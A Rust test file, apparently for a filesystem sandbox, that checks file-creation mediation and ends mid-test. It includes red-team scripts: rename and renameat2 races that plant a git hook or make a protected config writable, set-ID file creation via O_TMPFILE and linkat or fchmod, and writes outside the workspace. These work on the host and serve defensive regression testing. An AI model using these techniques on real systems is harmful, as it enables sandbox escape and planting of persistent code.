/// `umask(2)` (issue 15, item 10): a thread that changes the umask its process shares must be
/// seen by the main thread's next creation, a forked child's by its own, and the parent's
/// kept value must not leak to the child. A cache that missed the other thread's change would
/// make `after_thread` 0644.
#[test]
fn umask_changed_by_another_thread_is_honoured() {
    let fx = Fixture::without_git();
    let Some(py) = py("umask from threads") else {
        return;
    };
    let script = format!(
        "{py} -c '
import os, threading
def make(p): os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o666))
os.umask(0o022); make(\"before\")
t = threading.Thread(target=lambda: os.umask(0o066)); t.start(); t.join()
make(\"after_thread\")
pid = os.fork()
if pid == 0:
    make(\"child_inherits\"); os.umask(0o002); make(\"child_own\"); os._exit(0)
os.waitpid(pid, 0)
make(\"parent_after_child\")
print(\"made\")
'"
    );
    works(&fx, &script).run.assert_stdout_contains("made\n");
    let mode = |p: &str| {
        fs::metadata(fx.ws.join(p))
            .map(|m| m.permissions().mode() & 0o777)
            .unwrap_or(0)
    };
    for (p, want) in [
        ("before", 0o644),
        ("after_thread", 0o600),
        ("child_inherits", 0o600),
        ("child_own", 0o664),
        ("parent_after_child", 0o600),
    ] {
        assert_eq!(mode(p), want, "mode of {p}");
    }
}

/// A thread with an fs_struct of its own (`unshare(CLONE_FS)`) and another umask that
/// `exec`s takes over the leader's tid: the umask the init kept for the leader must not be
/// used for it (found by red-teaming issue 15, item 10). Control: the same outside.
#[test]
fn umask_of_a_thread_that_execs_is_its_own() {
    let Some(py) = py("exec from a thread") else {
        return;
    };
    let script = format!(
        "cat > prog.py <<'PROG'
import ctypes, os, sys, threading
def make(p): os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o666))
if len(sys.argv) > 1:
    make(\"after_exec\"); print(\"made\"); sys.exit(0)
os.umask(0o022)
split, made = threading.Event(), threading.Event()
def thread():
    if ctypes.CDLL(None, use_errno=True).unshare(0x200) != 0:  # CLONE_FS
        raise OSError(ctypes.get_errno(), \"unshare\")
    os.umask(0); split.set(); made.wait()
    os.execv(sys.executable, [sys.executable, \"prog.py\", \"after\"])
threading.Thread(target=thread).start(); split.wait()
make(\"leader\"); made.set()
threading.Event().wait()
PROG
{py} prog.py"
    );
    let check = |fx: &Fixture| {
        let mode = |p: &str| {
            fs::metadata(fx.ws.join(p))
                .map(|m| m.permissions().mode() & 0o777)
                .unwrap_or(0)
        };
        assert_eq!((mode("leader"), mode("after_exec")), (0o644, 0o666));
    };
    let fx = Fixture::without_git();
    works(&fx, &script).assert_shows("made\n");
    check(&fx);
    let fx = Fixture::without_git();
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_output_contains("made");
    check(&fx);
}

/// `open(O_PATH|O_CREAT)`: the kernel drops `O_CREAT` with `O_PATH`, so the filter lets it
/// through; it used to be mediated and, the kernel refusing to hand an `O_PATH` file over,
/// left the caller waiting for ever (found by red-teaming issue 15, item 10). Control: the
/// same outside.
#[test]
fn o_path_with_o_creat_answers() {
    let Some(py) = py("O_PATH") else {
        return;
    };
    let script = format!(
        "echo x > existing && timeout 20 {py} -c '
import errno, os
for p in (\"existing\", \"missing\", \"/proc/self/status\"):
    try:
        os.close(os.open(p, os.O_PATH | os.O_CREAT | os.O_EXCL)); print(p, \"opened\")
    except OSError as e:
        print(p, errno.errorcode[e.errno])
'"
    );
    let want = "existing opened\nmissing ENOENT\n/proc/self/status opened\n";
    let fx = Fixture::without_git();
    works(&fx, &script).assert_shows(want);
    assert!(!fx.ws.join("missing").exists());
    let fx = Fixture::without_git();
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_output_contains(want);
}

/// `open(O_CREAT|O_EXCL)` is made without looking the name up first (issue 15, item 10): an
/// existing protected file must still answer `EEXIST`, as the kernel would, with no
/// violation; a missing one is refused and reported. Control: outside, the first is `EEXIST`
/// too and the second is created.
#[test]
fn exclusive_create_of_existing_protected_file_is_eexist() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("O_EXCL") else {
        return;
    };
    let script = format!(
        "{py} -c '
import errno, os
try:
    os.close(os.open(\".envrc\", os.O_CREAT | os.O_EXCL | os.O_WRONLY)); print(\"result: created\")
except OSError as e:
    print(\"result:\", errno.errorcode[e.errno])
'"
    );
    let fx = Fixture::without_git();
    write_file(&fx.ws.join(".envrc"), "export A=1\n", 0o644);
    works(&fx, &script).assert_shows("result: EEXIST\n");
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_output_contains("result: EEXIST");

    let fx = Fixture::without_git();
    let records = fx.records();
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_ok().assert_output_contains("result: EPERM");
    records.assert_blocked(&inside.run, &[".envrc"]);
    assert!(!fx.ws.join(".envrc").exists());
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_output_contains("result: created");
}

#[test]
fn fifo_round_trip_does_not_hang() {
    let fx = Fixture::without_git();
    works(
        &fx,
        "timeout 20 sh -c 'mkfifo p; cat p > out & echo hi > p; wait; cat out'",
    )
    .assert_shows("hi\n");
}

/// The writer opens (with `O_CREAT`, so through stockade) first and blocks until a reader
/// comes: the reader's own `open(O_CREAT)` of `out` must not queue behind it.
#[test]
fn fifo_writer_blocked_in_open_does_not_stall_the_reader() {
    let fx = Fixture::without_git();
    works(
        &fx,
        "timeout 20 sh -c 'mkfifo p; (sleep 1; cat p > out) & echo hi > p; wait; cat out'",
    )
    .assert_shows("hi\n");
}

#[test]
fn process_blocked_in_a_mediated_open_can_be_killed() {
    let fx = Fixture::without_git();
    works(
        &fx,
        "timeout 20 sh -c 'mkfifo p; (echo hi > p) & w=$!; sleep 0.5; touch after && echo touched; kill $w; wait $w; echo reaped'",
    )
    .assert_shows("touched\n")
    .assert_shows("reaped\n");
    assert!(fx.ws.join("after").exists());
}

#[test]
fn run_ends_while_a_mediated_open_is_still_blocked() {
    let fx = Fixture::without_git();
    let start = Instant::now();
    let run = fx
        .sandbox(&[], "mkfifo p; (echo hi > p &); echo started")
        .run();
    run.assert_success().assert_stdout_contains("started");
    assert!(
        start.elapsed() < Duration::from_secs(15),
        "the run took {:?}",
        start.elapsed()
    );
}

#[test]
fn ordinary_renames_links_and_symlinks_work() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::without_git();
    let script = "set -e
        mkdir -p a/b/c
        echo data > a/b/c/f
        mv a z
        ln -s z/b l
        cat l/c/f
        ln z/b/c/../c/f hl
        stat -c 'links=%h' hl
        mkdir l/new && touch l/new/g
        echo two > t && mv -f t z/b/c/f && cat z/b/c/f
        ln -sfn z l2 && ln -sfn z/b l2 && readlink l2
        mv z/b/c z/b/c2
        mkfifo z/fifo
        echo done";
    works(&fx, script)
        .assert_shows("data\n")
        .assert_shows("links=2\n")
        .assert_shows("two\n")
        .assert_shows("z/b\n")
        .assert_shows("done");
    assert_eq!(read_text(&fx.ws.join("hl")).as_deref(), Some("data\n"));
    assert_eq!(read_text(&fx.ws.join("z/b/c2/f")).as_deref(), Some("two\n"));
    assert!(fx.ws.join("z/b/new/g").exists());
    assert_eq!(
        fs::read_link(fx.ws.join("l")).ok().as_deref(),
        Some(Path::new("z/b"))
    );
}

#[test]
fn cp_recursive_works() {
    let fx = Fixture::without_git();
    works(
        &fx,
        "set -e; mkdir -p src/d; echo x > src/d/f; ln -s d/f src/l; cp -r src dst; cp -a src dst2; cat dst/l dst2/l",
    )
    .assert_shows("x\nx\n");
    assert!(fs::symlink_metadata(fx.ws.join("dst2/l"))
        .map(|m| m.file_type().is_symlink())
        .unwrap_or(false));
}

#[test]
fn tar_extract_works() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::without_git();
    works(
        &fx,
        "set -e; mkdir -p t/d; echo x > t/d/f; ln -s d/f t/l; ln t/d/f t/h; tar cf t.tar t; mkdir out; tar xf t.tar -C out; cat out/t/l; stat -c 'links=%h' out/t/h",
    )
    .assert_shows("x\n")
    .assert_shows("links=2\n");
    assert!(fx.ws.join("out/t/d/f").is_file());
}

#[test]
fn python_venv_works() {
    let Some(py) = py("python3 -m venv") else {
        return;
    };
    let probe = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(format!("{py} -c 'import venv, ensurepip'"))
        .status();
    if !probe.is_ok_and(|s| s.success()) {
        println!("skipped: python3 venv/ensurepip not installed");
        return;
    }
    let fx = Fixture::without_git();
    // `python3 -m venv` takes pip's wheel apart (thousands of mediated creations): 30.2 s alone
    // at load 18, so it has twice the suite's usual time (a minute).
    let records = fx.records();
    let out = fx
        .attack(
            &records.opts(),
            &format!("{py} -m venv venv && venv/bin/python -c 'import sys; print(sys.prefix)' && venv/bin/python -m pip --version"),
        )
        .timeout(attacks::TIMEOUT * 2)
        .outcome();
    out.assert_ok();
    records.assert_no_violations(&out.run);
    records.assert_nothing_swept(&out.run);
    out.assert_shows(&format!("{}\n", fx.ws.join("venv").display()))
        .assert_shows("pip ");
    assert!(fs::symlink_metadata(fx.ws.join("venv/bin/python")).is_ok());
}

#[test]
fn files_created_in_the_workspace_are_owned_by_the_caller() {
    if attacks::not_applicable(&attacks::na::SENTRY_FILES) {
        return;
    }
    let fx = Fixture::without_git();
    works(
        &fx,
        "set -e; echo f > f; mkdir d; ln -s f s; ln f h; mkfifo p; echo r > r0; mv r0 r; cp f c; git init -q g",
    );
    for p in [
        "f",
        "d",
        "s",
        "h",
        "p",
        "r",
        "c",
        "g/.git/config",
        "g/.git/hooks",
    ] {
        let m = fs::symlink_metadata(fx.ws.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
        // A root caller's container command runs as the workspace's owner (the suite's
        // WORKSPACE_OWNER): its files are that user's, as the workspace is.
        let owner = if attacks::gives_out() {
            attacks::workspace_owner_ids().expect("the workspace's owner")
        } else {
            (euid(), egid())
        };
        assert_eq!((m.uid(), m.gid()), owner, "{p} is not owned by the caller");
    }
}

#[test]
fn relative_creations_resolve_against_the_callers_cwd_and_dirfds() {
    let fx = Fixture::new();
    let via_fd = match py("openat(dirfd) in a workflow") {
        Some(py) => format!(
            " && {py} -c 'import os; d = os.open(\"hd\", os.O_RDONLY); os.close(os.open(\"viafd.txt\", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d)); os.mkdir(\"viafd.d\", dir_fd=d)'"
        ),
        None => String::new(),
    };
    works(
        &fx,
        &format!("cd app && touch here.txt && mkdir hd && ln -s here.txt sl{via_fd}"),
    );
    for p in ["app/here.txt", "app/hd", "app/sl"] {
        assert!(exists_host(&fx.ws.join(p)), "{p} missing");
    }
    for p in ["here.txt", "hd", "sl"] {
        assert!(
            !exists_host(&fx.ws.join(p)),
            "{p} created in the wrong directory"
        );
    }
    if !via_fd.is_empty() {
        assert!(fx.ws.join("app/hd/viafd.txt").is_file());
        assert!(fx.ws.join("app/hd/viafd.d").is_dir());
        assert!(!exists_host(&fx.ws.join("viafd.txt")));
        assert!(!exists_host(&fx.ws.join("app/viafd.txt")));
    }
}

/// A dirfd that is not a directory (a pipe) fails with `ENOTDIR`, as the kernel's own call
/// would, and one that is not open with `EBADF`; absolute paths with `.`, `..` and repeated
/// slashes land where they name.
#[test]
fn odd_dirfds_and_absolute_paths_keep_their_meaning() {
    let Some(py) = py("openat(non-directory dirfd)") else {
        return;
    };
    let fx = Fixture::without_git();
    let script = format!(
        "mkdir -p a/b && : > \"$PWD//a/./b/../b//x\" && mkdir \"$PWD/a/../c/\" && {py} -c 'import errno, os\nr, w = os.pipe()\nfor fd, want in ((r, errno.ENOTDIR), (77, errno.EBADF)):\n  try:\n    os.open(\"y\", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n  except OSError as e:\n    print(\"fd\", fd, \"ok\" if e.errno == want else e)\n'"
    );
    let out = works(&fx, &script);
    out.assert_output_contains("fd 77 ok");
    assert_eq!(
        out.run.stdout.matches(" ok").count(),
        2,
        "{}",
        out.run.describe()
    );
    assert!(fx.ws.join("a/b/x").is_file());
    assert!(fx.ws.join("c").is_dir());
    assert!(!exists_host(&fx.ws.join("y")));
}

#[test]
fn open_flags_keep_their_meaning() {
    let fx = Fixture::without_git();
    let out = works(
        &fx,
        "echo a > f; echo b >> f; cat f; (set -C; echo c > f) 2>/dev/null && echo clobbered; echo d > f; cat f",
    );
    assert!(
        out.run.stdout.contains("a\nb\nd\n") && !out.run.stdout.contains("clobbered"),
        "{}",
        out.run.describe()
    );
    let Some(py) = py("O_EXCL/O_NOFOLLOW") else {
        return;
    };
    let code = r#"
import errno, os
open("e", "w").close()
os.symlink("e", "lnk")
for name, flags in [("excl", os.O_CREAT | os.O_EXCL | os.O_WRONLY),
                    ("nofollow", os.O_CREAT | os.O_NOFOLLOW | os.O_WRONLY)]:
    try:
        os.close(os.open("e" if name == "excl" else "lnk", flags, 0o644))
        print(name, "opened")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
fd = os.open("cloexec", os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o644)
print("cloexec", bool(os.get_inheritable(fd)) is False)
os.write(fd, b"abc")
os.close(fd)
fd = os.open("cloexec", os.O_CREAT | os.O_WRONLY | os.O_APPEND)
os.write(fd, b"def")
os.close(fd)
print("content", open("cloexec").read())
"#;
    let prog = fx.script("flags.py", code);
    works(&fx, &format!("{py} {}", sh_quote(prog)))
        .assert_shows("excl EEXIST\n")
        .assert_shows("nofollow ELOOP\n")
        .assert_shows("cloexec True\n")
        .assert_shows("content abcdef\n");
}

/// The calls stockade performs for the command must not gain it anything: outside the
/// writable roots creation still fails.
#[test]
fn creations_outside_writable_roots_still_fail() {
    for (attack, path) in [
        ("touch ../outside/planted", "../outside/planted"),
        ("mkdir ../outside/planted", "../outside/planted"),
        ("ln -s x ../outside/planted", "../outside/planted"),
        ("ln README.md ../outside/planted", "../outside/planted"),
        ("mv README.md ../outside/planted", "../outside/planted"),
        ("touch \"$HOME/planted\"", "../home/planted"),
        ("mkfifo ../outside/planted", "../outside/planted"),
    ] {
        creates(Start::Repo, "", attack, path)
            .no_violation()
            .no_strerror()
            .check();
    }
}

#[test]
fn tmp_creations_stay_private() {
    let fx = Fixture::without_git();
    let name = format!("/tmp/stockade-inrun-{}", fx.id);
    works(
        &fx,
        &format!("mkdir {name} && echo x > {name}/f && ln -s f {name}/l && cat {name}/l"),
    )
    .assert_shows("x\n");
    assert!(
        !exists_host(Path::new(&name)),
        "{name} appeared on the host"
    );
}

#[test]
fn o_tmpfile_linked_to_an_ordinary_name_works() {
    if attacks::not_applicable(&attacks::na::SENTRY_FILES) {
        return;
    }
    let Some(py) = py("O_TMPFILE + linkat") else {
        return;
    };
    let fx = Fixture::without_git();
    works(
        &fx,
        &format!(
            "{py} -c 'import os; fd = os.open(\".\", os.O_TMPFILE | os.O_WRONLY, 0o644); os.write(fd, b\"linked\\n\"); import ctypes; libc = ctypes.CDLL(None, use_errno=True); r = libc.linkat(-100, b\"/proc/self/fd/%d\" % fd, -100, b\"tmpfile.txt\", 0x400); r == 0 or exit(os.strerror(ctypes.get_errno()))' && cat tmpfile.txt"
        ),
    )
    .assert_shows("linked\n");
    assert_eq!(
        read_text(&fx.ws.join("tmpfile.txt")).as_deref(),
        Some("linked\n")
    );
}

// =======================================================================================
// Two runs on one workspace: one renames directories while the other creates files.

/// Run A: makes the bare repository `bare.git` (after run B started, so no read-only mount
/// or exact pattern covers it), then creates `b/hooks/pre-receive` with `O_CREAT|O_EXCL`
/// over and over, where `b` is a plain directory. Prints `RACE-WON` when one lands in the bare
/// repository's hooks (run B swapped `bare.git` into `b` while the call was served).
const RACE_RUNS_CREATOR: &str = r#"
import os, sys, time
budget = float(sys.argv[1])
os.system("git init -q --bare bare.git && rm -f bare.git/hooks/*.sample")
hb = os.open("bare.git/hooks", os.O_PATH | os.O_DIRECTORY)
hp = os.open("b/hooks", os.O_PATH | os.O_DIRECTORY)
# Only now may the renamer start: before, `b` or `bare.git` could be away under another name.
open("READY", "w").close()
end = time.time() + budget
n = ok = eperm = 0
hit = False
while time.time() < end and not hit:
    n += 1
    try:
        f = os.open("b/hooks/pre-receive", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
    except OSError as e:
        eperm += e.errno == 1
        continue
    ok += 1
    st = os.fstat(f)
    os.close(f)
    try:
        hit = os.stat("pre-receive", dir_fd=hb, follow_symlinks=False).st_ino == st.st_ino
    except OSError:
        pass
    if not hit:
        try:
            os.unlink("pre-receive", dir_fd=hp)
        except OSError:
            pass
open("STOP", "w").close()
if hit:
    print("RACE-WON")
print(f"creator tries={n} ok={ok} eperm={eperm}")
"#;

/// Run B: swaps the bare repository into the name `b` and back (`b -> y`, `bare.git -> b`,
/// `b -> bare.git`, `y -> b`: plain renames, each allowed) until run A stops; leaves the
/// number of cycles in `CYCLES-<n>`.
const RACE_RUNS_RENAMER: &str = r#"
import os, sys, time
open("UP", "w").close()
end = time.time() + float(sys.argv[1])
while not os.path.exists("READY") and time.time() < end:
    time.sleep(0.01)
n = 0
while time.time() < end and not os.path.exists("STOP"):
    try:
        os.rename("b", "y"); os.rename("bare.git", "b"); os.rename("b", "bare.git"); os.rename("y", "b")
    except OSError:
        break
    n += 1
open(f"CYCLES-{n}", "w").close()
"#;

/// Two concurrent runs on one workspace: whether a directory is a git dir is read from the
/// directory the creation is made in, never from a path another run may have renamed since
/// (the red team's race3: the hook landed in a bare repository made during the run within
/// 450-1800 tries, through the one-call creation and before it). The control runs both
/// scripts on the host and the hook lands; inside, a bounded number of seconds is tried
/// (a race: this can pass without the window having been hit, so the run also checks that
/// both sides ran and the plain creations succeeded).
#[test]
fn race_between_runs_cannot_put_a_hook_in_a_bare_repository() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("race between two runs") else {
        return;
    };
    let run = |inside: bool, secs: u32| {
        let fx = Fixture::without_git();
        attacks::mkdir(&fx.ws.join("b/hooks"));
        let creator = fx.script("race_runs_creator.py", RACE_RUNS_CREATOR);
        let renamer = fx.script("race_runs_renamer.py", RACE_RUNS_RENAMER);
        let b = format!("{py} {} {}", sh_quote(&renamer), secs + 20);
        let a = format!("{py} {} {secs}", sh_quote(&creator));
        // Run B must be up (its set-up done) before A makes the repository.
        let (out, cycles) = two_runs(&fx, inside, &a, &b);
        (fx, out, cycles)
    };
    let (_fx, out, cycles) = run(false, 20);
    out.assert_ok().assert_output_contains("RACE-WON");
    assert!(cycles > 0, "the control's renamer never ran");
    let (fx, out, cycles) = run(true, 15);
    out.assert_ok().assert_lacks("RACE-WON");
    assert!(
        stat_of(&out.run.stdout, "creator", "ok") > 0 && cycles > 0,
        "the race was not exercised (renames: {cycles})\n{}",
        out.run.describe()
    );
    let hook = fx.ws.join("bare.git/hooks/pre-receive");
    assert!(!hook.exists(), "a hook landed in the bare repository");
}

/// Starts the other run of a race between two runs (its output to a log beside the
/// workspace) and waits until its command is up (it makes `UP` first): on a loaded machine
/// a run started beside another took more than the first one's wait for its partner (CI,
/// 2026-12-01: the victim waited 15 s, then tried alone; the swapper came after it ended).
fn start_partner(fx: &Fixture, cmd: attacks::Cmd) -> (std::process::Child, PathBuf) {
    let log = fx.root.join("partner.log");
    let mut child = cmd.spawn_logged(&log);
    let until = Instant::now() + Duration::from_secs(180);
    while !fx.ws.join("UP").exists() {
        let ended = child.try_wait().ok().flatten();
        if ended.is_some() || Instant::now() > until {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "the other run's command never started ({}):\n{}",
                ended.map_or("not within 180 s".to_string(), |s| s.to_string()),
                fs::read_to_string(&log).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    (child, log)
}

/// Runs `b` (started first, up before `a` starts) and `a` on `fx`'s workspace, both sandboxed
/// (`inside`) or both on the host (the control). Returns `a`'s outcome, with `b`'s output added
/// to what a failure shows, and the count `b` left in `CYCLES-<n>` (0 when none).
fn two_runs(fx: &Fixture, inside: bool, a: &str, b: &str) -> (Outcome, u64) {
    let cmd = |script: &str| {
        if inside {
            fx.attack(&[], script)
        } else {
            fx.control(script)
        }
    };
    let (mut other, log) = start_partner(fx, cmd(b));
    let mut out = cmd(a).outcome();
    let _ = other.wait();
    let text = fs::read_to_string(&log).unwrap_or_default();
    out.run
        .stderr
        .push_str(&format!("\n--- the other run's output:\n{text}"));
    let cycles = fs::read_dir(&fx.ws)
        .into_iter()
        .flatten()
        .filter_map(|e| {
            let name = e.ok()?.file_name().into_string().ok()?;
            name.strip_prefix("CYCLES-")?.parse().ok()
        })
        .next()
        .unwrap_or(0);
    (out, cycles)
}

// =======================================================================================
// Two runs on one workspace: one swaps names while the other changes a mode or makes a
// hard link (the creation guard judges and acts on one object).

/// Run A: makes a git dir during the run whose config is read-only and protected (`MODE`
/// `chmod-symlink`: a fresh `.git`; otherwise the bare repository `d`, made a git dir before
/// `git init` writes its config), and the decoys the other run swaps in: `x` (a plain file)
/// and `l` (a symlink to `.git/config`), or `e` (a plain directory holding a plain `config`).
/// Once the swapper runs (`GO`), it tries for `BUDGET` seconds `chmod x`, `chmod e/config`
/// or `ln e/config cfg` (allowed on the decoy, refused on the config) and prints `RACE-WON`
/// when the config became writable or got a second name.
const RACE_GUARD_VICTIM: &str = r#"
import os, sys, time
mode, budget = sys.argv[1], float(sys.argv[2])
if mode == "chmod-symlink":
    os.system("git -c init.defaultBranch=main init -q")
    cfg = ".git/config"
    with open("x", "w") as f:
        f.write("plain\n")
    os.symlink(".git/config", "l")
else:
    os.system('mkdir -p d/objects d/refs && echo "ref: refs/heads/main" > d/HEAD && git -c init.defaultBranch=main init -q --bare d')
    cfg = "d/config"
    os.mkdir("e")
    with open("e/config", "w") as f:
        f.write("[user]\n\tname = plain\n")
# Read-only, as stockade keeps a new config during the run (on the host, the control's,
# git leaves it writable).
os.chmod(cfg, 0o444)
held = os.open(cfg, os.O_RDONLY)
ino = os.fstat(held).st_ino
if os.fstat(held).st_mode & 0o222:
    sys.exit("the config is writable before the race")
open("READY", "w").close()
# Well within the run's time limit (a minute in the suite): the swapper's run starts in seconds.
wait = time.time() + 15
while not os.path.exists("GO") and time.time() < wait:
    time.sleep(0.01)
end = time.time() + budget
n = ok = err = 0
won = False
while time.time() < end and not won:
    n += 1
    try:
        if mode == "link-dir":
            os.link("e/config", "cfg")
        elif mode == "chmod-dir":
            os.chmod("e/config", 0o644)
        else:
            os.chmod("x", 0o644)
        ok += 1
    except OSError:
        err += 1
    if mode == "link-dir":
        try:
            won = os.lstat("cfg").st_ino == ino
            if not won:
                os.unlink("cfg")
        except OSError:
            pass
    else:
        won = os.fstat(held).st_mode & 0o222 != 0
open("STOP", "w").close()
if won:
    print("RACE-WON")
print(f"victim tries={n} ok={ok} err={err}")
"#;

/// Run B: exchanges the decoy with the protected object (`x` and `l`, or `d` and `e`, by
/// `renameat2(RENAME_EXCHANGE)`: each allowed, no protected path is made) until run A stops;
/// leaves the number of exchanges in `CYCLES-<n>`.
const RACE_GUARD_SWAPPER: &str = r#"
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
open("UP", "w").close()
a, b = (b"x", b"l") if sys.argv[1] == "chmod-symlink" else (b"d", b"e")
end = time.time() + float(sys.argv[2])
while not os.path.exists("READY") and time.time() < end:
    time.sleep(0.01)
open("GO", "w").close()
n = 0
while time.time() < end and not os.path.exists("STOP"):
    if libc.renameat2(-100, a, -100, b, 2) != 0:
        print("exchange:", os.strerror(ctypes.get_errno()))
        break
    n += 1
open(f"CYCLES-{n}", "w").close()
"#;

/// Two concurrent runs on one workspace: run A's `chmod` or `link` of a decoy while run B
/// exchanges the decoy with the protected object (see [`RACE_GUARD_VICTIM`]). The guard
/// opens the entry its resolution ends in once (`O_PATH|O_NOFOLLOW`), judges that handle
/// (the path of the directory it holds, and whether that directory is a git dir read from
/// it) and changes or links that handle, so what it judged is what it changes. Before, the
/// name was judged, and the git-dir probe made, by path, and the act made by name again:
/// with the previous binary (`STOCKADE_BIN=/var/tmp/bench/s42/stockade`, 2026-11-29) these
/// tests fail within 41 (`chmod-symlink`), 90 (`chmod-dir`) and 894 (`link-dir`) tries,
/// against about 40,000-60,000 tries in 8 seconds without a win with the handles. A race:
/// the control runs both scripts on the host, where the attack works at once; inside, the
/// run also checks that both sides ran and that the victim saw both outcomes (allowed on the
/// decoy, refused on the config), so the swaps did interleave with its calls.
fn race_between_runs_on_one_object(mode: &str) {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("race between two runs") else {
        return;
    };
    let run = |inside: bool, secs: u32| {
        let fx = Fixture::without_git();
        let victim = fx.script("race_guard_victim.py", RACE_GUARD_VICTIM);
        let swapper = fx.script("race_guard_swapper.py", RACE_GUARD_SWAPPER);
        let b = format!("{py} {} {mode} {}", sh_quote(&swapper), secs + 20);
        let a = format!("{py} {} {mode} {secs}", sh_quote(&victim));
        let (out, cycles) = two_runs(&fx, inside, &a, &b);
        (fx, out, cycles)
    };
    let (_fx, out, cycles) = run(false, 10);
    out.assert_ok().assert_output_contains("RACE-WON");
    assert!(cycles > 0, "the control's swapper never ran");
    let (fx, out, cycles) = run(true, 8);
    out.assert_ok().assert_lacks("RACE-WON");
    assert!(
        stat_of(&out.run.stdout, "victim", "ok") > 0
            && stat_of(&out.run.stdout, "victim", "err") > 0
            && cycles > 0,
        "the race was not exercised (exchanges: {cycles})\n{}",
        out.run.describe()
    );
    // No second name for the config on the host either (it is in `d` or `e`, whichever
    // name it had when the swapper stopped).
    for dir in ["d", "e", ".git"] {
        let config = fx.ws.join(dir).join("config");
        if let Ok(meta) = fs::symlink_metadata(&config) {
            assert_eq!(meta.nlink(), 1, "{} has a second name", config.display());
        }
    }
}

#[test]
fn race_between_runs_cannot_chmod_a_config_through_a_swapped_symlink() {
    race_between_runs_on_one_object("chmod-symlink");
}

#[test]
fn race_between_runs_cannot_chmod_a_config_in_a_swapped_directory() {
    race_between_runs_on_one_object("chmod-dir");
}

#[test]
fn race_between_runs_cannot_hardlink_a_config_from_a_swapped_directory() {
    race_between_runs_on_one_object("link-dir");
}

/// `open(O_TMPFILE)` has no `O_CREAT`, so it is not mediated and may make an unnamed file
/// with a set-ID mode; naming it (`linkat` through `/proc/self/fd/N` or `AT_EMPTY_PATH`) is
/// mediated and refused, as `chmod` refuses set-ID bits: on the host such a file runs with its
/// owner's (or group's) rights for anyone who executes it. The control names it on the host.
/// The run also checks that the unnamed file did carry the bit (so the link was the attack).
#[test]
fn set_id_o_tmpfile_cannot_be_linked_into_the_workspace() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("O_TMPFILE + linkat with a set-ID mode") else {
        return;
    };
    const PROG: &str = r##"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
# No content: a write by a process without CAP_FSETID clears the bits again.
fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o6755)
print("unnamed set-id=%d" % (os.fstat(fd).st_mode & 0o6000 != 0))
libc.linkat(-100, b"/proc/self/fd/%d" % fd, -100, b"named", 0x400)
libc.linkat(fd, b"", -100, b"named2", 0x1000)
for n in ("named", "named2"):
    try:
        if os.lstat(n).st_mode & 0o6000:
            print("SET-ID-NAMED", n)
    except OSError as e:
        print(n, e)
"##;
    let check_host = |fx: &Fixture| {
        ["named", "named2"]
            .iter()
            .any(|n| fs::symlink_metadata(fx.ws.join(n)).is_ok_and(|m| m.mode() & 0o6000 != 0))
    };
    let fx = Fixture::without_git();
    let prog = fx.script("set_id_tmpfile.py", PROG);
    let out = fx.control(&format!("{py} {}", sh_quote(&prog))).outcome();
    out.assert_ok().assert_output_contains("SET-ID-NAMED");
    assert!(check_host(&fx), "control: no set-ID file on the host");
    let fx = Fixture::without_git();
    let prog = fx.script("set_id_tmpfile.py", PROG);
    let records = fx.records();
    let out = fx
        .attack(&records.opts(), &format!("{py} {}", sh_quote(&prog)))
        .outcome();
    out.assert_ok().assert_lacks("SET-ID-NAMED");
    assert!(
        out.run.stdout.contains("unnamed set-id=1"),
        "the unnamed file had no set-ID bit: nothing was tested\n{}",
        out.run.describe()
    );
    assert!(!check_host(&fx), "a set-ID file landed on the host");
    let refused = records.violations().into_iter().any(|v| {
        v.get("kind").and_then(|k| k.as_str()) == Some(attacks::PROTECTED_PATH_BLOCKED)
            && v.to_string().contains("set-group-ID")
    });
    assert!(
        refused,
        "no protected_path_blocked violation naming the set-ID rule\n{:#?}",
        records.violations()
    );
}

/// A set-ID mode asked for through a descriptor, by `fchmod(fd)` or by
/// `fchmodat2(fd, "", AT_EMPTY_PATH)`, is refused and each refusal is reported as made
/// through "(a descriptor)" (the second had an empty path, red team issue 32). Control: on the
/// host both calls set the bit (`fchmodat2` only where the kernel has it, Linux 6.6).
#[test]
fn set_id_through_a_descriptor_is_refused_and_named() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("fchmod and fchmodat2 with a set-ID mode") else {
        return;
    };
    const PROG: &str = r##"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, how in (("a", "fchmod"), ("b", "fchmodat2")):
    fd = os.open(name, os.O_CREAT | os.O_WRONLY, 0o755)
    if how == "fchmod":
        r = libc.fchmod(fd, 0o4755)
    else:
        r = libc.syscall(452, fd, b"", 0o4755, 0x1000)
    e = ctypes.get_errno() if r else 0
    print("%s r=%d errno=%s set-id=%d" % (how, r, os.strerror(e) if e else "-", os.stat(name).st_mode & 0o6000 != 0))
"##;
    let fx = Fixture::without_git();
    let prog = fx.script("set_id_fd.py", PROG);
    let out = fx.control(&format!("{py} {}", sh_quote(&prog))).outcome();
    out.assert_ok()
        .assert_output_contains("fchmod r=0 errno=- set-id=1");
